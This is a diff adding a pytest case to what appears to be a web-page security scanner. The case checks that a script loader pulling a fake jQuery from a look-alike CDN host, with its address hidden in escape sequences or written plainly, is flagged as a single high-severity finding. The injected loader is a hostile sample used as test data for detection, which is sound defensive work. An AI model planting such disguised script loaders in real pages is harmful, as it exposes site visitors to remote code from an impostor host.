@@ -534,3 +534,23 @@ def test_the_catalogue_is_asked_once_whose_the_candidate_hosts_are(
     assert [f.kind for f in report.findings if f.severity is Severity.HIGH] == [
         "lookalike-script"]
     assert len(asked) == 1 and "www.googletagsmanager.test" in asked[0]
+
+
+@pytest.mark.parametrize("escape", ["\\x{:02x}", "\\u{:04x}"])
+def test_a_fake_jquery_in_a_literal_of_escapes_is_one_finding(audit_html: AuditHtml,
+                                                               escape: str) -> None:
+    """A loader whose fake jQuery's address is a literal of `\\x68\\x74…` or `\\u0068…`
+    escapes names no host as written: the walk reads the literal (via `inline-script`,
+    not `inline-decoded`), `obfuscated-script` names the load high, and it is not a
+    look-alike as well (two highs for one injection once e445433 read a brand-dressed
+    host's jQuery). Written in plain sight, the same loader is the look-alike's."""
+    url = "https://code.jquery-cdn.test/ajax/libs/jquery/3.7.1/jquery.min.js"
+    hidden = "".join(escape.format(ord(c)) for c in url)
+    loader = ("<script>var s=document.createElement('script');s.src='{}';"
+              "document.head.appendChild(s);</script>")
+    report = audit_html(page(loader.format(hidden)), url=URL)
+    assert [(f.kind, f.severity) for f in report.findings] == [
+        ("obfuscated-script", Severity.HIGH)]
+    report = audit_html(page(loader.format(url)), url=URL)
+    assert [(f.kind, f.severity) for f in report.findings] == [
+        ("lookalike-script", Severity.HIGH)]
